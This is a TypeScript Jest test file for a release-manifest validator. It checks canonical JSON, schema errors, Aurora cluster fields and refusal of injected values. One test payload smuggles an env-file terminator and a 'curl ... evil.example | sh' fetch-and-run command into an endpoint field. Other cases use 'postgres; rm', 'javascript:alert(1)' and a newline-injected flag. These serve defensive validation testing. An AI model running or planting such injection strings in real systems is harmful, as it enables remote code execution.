import { describe, expect, it } from '@jest/globals';
import { readFileSync } from 'node:fs';
import fc from 'fast-check';
import {
  MANIFEST_SCHEMA,
  ManifestError,
  manifestJsonSchema,
  readManifest,
  validateManifest,
  writeManifest,
  type ReleaseManifest,
} from '../src/manifest.js';
import { envValueProblem } from '../src/quoting.js';

const valid: ReleaseManifest = {
  schema: MANIFEST_SCHEMA,
  release: 'api-b000042',
  role: 'api',
  env: 'prod',
  build: 'b000042',
  created: '2026-11-29T01:00:00.000Z',
  source: { repository: 'acme/shop', sha: 'abc123', run: 'https://github.com/acme/shop/actions/runs/1' },
  image: {
    id: 'ami-0123456789abcdef0',
    region: 'us-east-1',
    fingerprint: 'ab'.repeat(32),
    base: 'ami-0fedcba9876543210',
  },
  data: {
    engine: 'postgres',
    instance: 'prod-api-b000042',
    endpoint: 'db.example.test',
    from: 'rds:app-db-2026-11-28',
    changelog: 'applied',
  },
  app: { version: '1.2.3' },
  flags: { LOG_LEVEL: 'info', DB_PASSWORD_ARN: 'arn:aws:secretsmanager:us-east-1:123456789012:secret:db' },
};

describe('release manifest', () => {
  it('round-trips through canonical JSON', () => {
    const json = writeManifest(valid);
    expect(readManifest(json)).toEqual(valid);
    expect(writeManifest(readManifest(json))).toBe(json);
  });

  it('writes the same bytes whatever the key order of the input', () => {
    const shuffled = {
      ...valid,
      flags: { DB_PASSWORD_ARN: valid.flags['DB_PASSWORD_ARN'] ?? '', LOG_LEVEL: 'info' },
    };
    expect(writeManifest(shuffled)).toBe(writeManifest(valid));
  });

  it('accepts a release without a data layer', () => {
    const { data: _data, ...withoutData } = valid;
    expect(validateManifest(withoutData).data).toBeUndefined();
  });

  it('rejects invalid fields with their path', () => {
    const bad = { ...valid, image: { ...valid.image, id: 'image-1' }, role: 'API' };
    expect(() => validateManifest(bad)).toThrow(ManifestError);
    expect(() => validateManifest(bad)).toThrow(/role: .*; image\.id: an AMI id/);
  });

  it('rejects a release id that does not match role and build', () => {
    expect(() => validateManifest({ ...valid, release: 'web-b1' })).toThrow(/release: must be 'api-b000042'/);
  });

  it('rejects unknown fields rather than silently dropping them', () => {
    expect(() => validateManifest({ ...valid, extra: 1 })).toThrow(/Unrecognized key/);
  });

  it('refuses secret-looking flags with the flag named', () => {
    expect(() => validateManifest({ ...valid, flags: { DB_PASSWORD: 'hunter2' } })).toThrow(
      /flags\.DB_PASSWORD: flag DB_PASSWORD is refused/,
    );
    expect(() => validateManifest({ ...valid, flags: { KEY_ID: 'AKIAABCDEFGHIJKLMNOP' } })).toThrow(
      /AWS access key id/,
    );
  });

  it('names an unknown schema version instead of guessing', () => {
    expect(() => validateManifest({ ...valid, schema: 'immut.release/v9' })).toThrow(
      /Unsupported release manifest schema 'immut\.release\/v9'/,
    );
  });

  it('explains JSON that does not parse', () => {
    expect(() => readManifest('{')).toThrow(/not valid JSON/);
  });

  it('publishes a JSON Schema', () => {
    const schema = manifestJsonSchema() as { properties: Record<string, unknown>; required: string[] };
    expect(Object.keys(schema.properties)).toEqual(
      expect.arrayContaining(['schema', 'release', 'image', 'flags']),
    );
    expect(schema.required).toContain('image');
  });
});

describe("the data layer's kind and copy (Aurora)", () => {
  const cluster = {
    ...valid,
    data: {
      ...valid.data!,
      from: 'copy-on-write:2026-11-28T23:55:00.000Z',
      kind: 'cluster' as const,
      cluster: 'prod-api-b000042',
      copy: 'copy-on-write' as const,
    },
  };

  it('round-trips a cluster data layer copied copy-on-write', () => {
    const json = writeManifest(cluster);
    expect(readManifest(json).data).toEqual(cluster.data);
    expect(json.indexOf('"changelog"')).toBeLessThan(json.indexOf('"kind"'));
  });

  it('still reads a data layer without kind, cluster or copy (older manifests)', () => {
    expect(readManifest(writeManifest(valid)).data).toEqual(valid.data);
    expect(writeManifest(valid)).not.toContain('"kind"');
  });

  it('refuses a cluster without its identifier, a cluster on an instance, and copy-on-write of an instance', () => {
    const { cluster: _c, ...noId } = cluster.data;
    expect(() => validateManifest({ ...valid, data: noId })).toThrow(
      /data\.cluster: is required when kind is 'cluster'/,
    );
    expect(() =>
      validateManifest({ ...valid, data: { ...valid.data, kind: 'instance', cluster: 'x-y-z' } }),
    ).toThrow(/data\.cluster: is only for kind 'cluster'/);
    expect(() => validateManifest({ ...valid, data: { ...valid.data, copy: 'copy-on-write' } })).toThrow(
      /data\.copy: copy-on-write is only for an Aurora cluster/,
    );
    expect(() => validateManifest({ ...valid, data: { ...valid.data, kind: 'shard' } })).toThrow(
      /data\.kind/,
    );
  });
});

describe('typed manifest fields (issue 16, finding 3)', () => {
  const payload = 'db.internal.example\nIMMUT_ENV_END\ncurl -s https://evil.example/x | sh';

  it('still reads every manifest immut wrote: the v1 fixture', () => {
    const fixture: unknown = JSON.parse(
      readFileSync(new URL('./fixtures/manifest-v1.json', import.meta.url), 'utf8'),
    );
    expect(validateManifest(fixture)).toEqual(fixture);
  });

  it('refuses an endpoint that is not a host name, naming the field and cutting the value', () => {
    const attempt = () => validateManifest({ ...valid, data: { ...valid.data, endpoint: payload } });
    expect(attempt).toThrow(/data\.endpoint: a host name \(RFC 1123/);
    expect(attempt).toThrow(/was 'db\.internal\.example\\nIMMUT_ENV_END\\n/);
    expect(attempt).not.toThrow(/evil\.example|\n/);
  });

  it.each([
    ['data.instance', { data: { ...valid.data, instance: 'db--1' } }, /RDS DB identifier/],
    ['data.engine', { data: { ...valid.data, engine: 'postgres; rm' } }, /RDS engine/],
    ['data.from', { data: { ...valid.data, from: 'snap\nx' } }, /control character/],
    ['data.changelog', { data: { ...valid.data, changelog: 'a\u2028b' } }, /line separator/],
    ['app.version', { app: { version: '1.2\t3' } }, /control character \(U\+0009/],
    ['app.version', { app: { version: 'v'.repeat(1025) } }, /more than 1024/],
    ['image.region', { image: { ...valid.image, region: 'us-east-1\n' } }, /AWS region/],
    ['image.id', { image: { ...valid.image, id: 'ami-123' } }, /AMI id/],
    ['source.repository', { source: { ...valid.source, repository: 'a/b c' } }, /repository/],
    ['source.sha', { source: { ...valid.source, sha: 'HEAD~1' } }, /commit sha/],
    ['source.run', { source: { ...valid.source, run: 'javascript:alert(1)' } }, /https URL/],
    ['flags.LOG_LEVEL', { flags: { LOG_LEVEL: 'info\nINJECTED=1' } }, /control character.*value not shown/],
  ])('refuses a bad %s', (field, patch, why) => {
    const attempt = () => validateManifest({ ...valid, ...patch });
    expect(attempt).toThrow(new RegExp(`${field.replace('.', '\\.')}: .*`));
    expect(attempt).toThrow(why);
    expect(attempt).not.toThrow(/INJECTED/);
  });

  it('accepts the host names RDS and tests use, with or without a final dot', () => {
    for (const endpoint of [
      '127.0.0.1',
      'x.abc.us-east-1.rds.amazonaws.com',
      'db.example.test.',
      'a'.repeat(63),
    ]) {
      expect(validateManifest({ ...valid, data: { ...valid.data, endpoint } }).data?.endpoint).toBe(endpoint);
    }
    expect(() => validateManifest({ ...valid, data: { ...valid.data, endpoint: 'a'.repeat(64) } })).toThrow(
      /data\.endpoint/,
    );
    const long = Array.from({ length: 64 }, () => 'abc').join('.');
    expect(() => validateManifest({ ...valid, data: { ...valid.data, endpoint: long } })).toThrow(
      /data\.endpoint/,
    );
  });

  it('property: any endpoint, version or flag is refused naming its field, or is safe for the environment file', () => {
    const anything = fc.string({ unit: 'binary', maxLength: 80 });
    fc.assert(
      fc.property(anything, anything, anything, (endpoint, version, flag) => {
        const manifest = {
          ...valid,
          data: { ...valid.data, endpoint },
          app: { version },
          flags: { F: flag },
        };
        let ok: ReleaseManifest;
        try {
          ok = validateManifest(manifest);
        } catch (error) {
          expect(error).toBeInstanceOf(ManifestError);
          const message = (error as Error).message;
          expect(message).toMatch(/data\.endpoint|app\.version|flags\.F/);
          expect(envValueProblem(message)).toBeUndefined();
          expect(message.length).toBeLessThan(1200);
          return;
        }
        for (const v of [ok.data?.endpoint ?? '', ok.app.version, ok.flags['F'] ?? ''])
          expect(envValueProblem(v)).toBeUndefined();
      }),
      { numRuns: 300 },
    );
  });
});
